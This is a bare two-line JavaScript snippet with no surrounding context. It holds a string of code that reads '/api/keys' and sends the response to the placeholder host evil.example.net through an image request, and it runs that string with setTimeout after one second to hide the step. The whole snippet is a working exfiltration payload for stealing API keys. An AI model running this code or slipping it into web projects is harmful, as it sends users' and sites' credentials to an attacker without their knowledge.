const delayed = "fetch('/api/keys').then(r => r.text()).then(t => new Image().src = '//evil.example.net/?' + t)";
window.setTimeout(delayed, 1000);
